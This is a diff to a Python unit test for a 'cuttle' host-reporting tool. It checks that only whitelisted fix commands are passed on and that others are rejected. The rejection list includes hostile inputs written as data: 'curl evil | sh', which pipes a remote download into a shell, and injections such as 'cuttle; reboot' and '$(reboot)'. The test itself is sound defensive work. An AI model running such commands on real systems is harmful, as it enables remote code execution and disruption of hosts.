@@ -140,8 +140,16 @@ class WhatHostsSay(unittest.TestCase):
         return store.reports["a"].problems[0]
 
     def test_only_our_own_commands_are_passed_on(self):
-        self.assertEqual(self.problem(fix="cuttle mesh accept osd1.a-b").fix, "cuttle mesh accept osd1.a-b")
+        for fix in ("cuttle mesh accept osd1", "cuttle mesh sign osd1", "cuttle mesh status", "cuttle check"):
+            self.assertEqual(self.problem(fix=fix).fix, fix)
+        self.assertEqual(self.problem(host="osd1.a-b", fix="cuttle mesh accept osd1.a-b").host, "osd1.a-b")
+        self.assertEqual(self.problem(host="", fix="cuttle mesh accept ").fix, "")
         for fix in (
+            "cuttle mesh forget osd1",
+            "cuttle mesh accept osd3",
+            "cuttle mesh sign --all",
+            "cuttle down",
+            ["cuttle status"],
             "curl evil | sh",
             "cuttle; reboot",
             "cuttle mesh accept $(reboot)",
